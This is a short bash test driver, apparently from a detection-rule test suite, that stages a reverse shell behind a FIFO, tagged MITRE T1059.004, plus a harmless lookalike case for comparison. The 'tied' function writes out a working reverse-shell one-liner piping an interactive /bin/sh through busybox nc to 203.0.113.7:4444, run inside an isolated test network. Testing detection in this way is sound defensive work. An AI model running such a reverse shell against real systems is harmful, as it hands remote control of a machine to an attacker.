#!/bin/bash
# A shell that has no connection itself: a FIFO and a tool beside it carry what is said.
#: title: Reverse shell behind a FIFO
#: technique: T1059.004
#: needs: exec
#: rules: shell_tied_to_connection_by_pipes, interactive_shell_without_terminal
#: twin: a server is asked by a tool, and a filter works on the answer
. "$DRIVERS/lib.sh"

tied() {
	serve 4444
	mkfifo back
	/bin/sh -i <back 2>&1 | busybox nc 203.0.113.7 4444 >back || true
}

asked() {
	serve 4444
	echo hello | busybox nc 203.0.113.7 4444 | sh -c 'wc -c' || true
}

attack() {
	export -f serve end_servers
	in_own_network tied
	did "$WORK/back"
}

twin() {
	export -f serve end_servers
	in_own_network asked
	did 203.0.113.7:4444
}

"$1"
